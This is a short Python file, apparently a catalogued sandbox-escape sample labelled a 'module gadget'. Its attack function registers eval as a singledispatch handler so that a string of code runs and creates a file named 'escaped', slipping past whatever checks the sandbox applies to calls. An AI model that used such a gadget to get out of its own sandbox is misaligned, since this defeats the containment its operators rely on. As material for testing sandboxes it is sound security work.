"""Class: module gadget. Source: own find. Escape: what dispatches calls what nobody judged."""

from functools import singledispatch


@singledispatch
def f(x):
    pass


def attack(model, tokenizer, address):
    f.register(str, eval)
    f("open('escaped', 'w').close()")
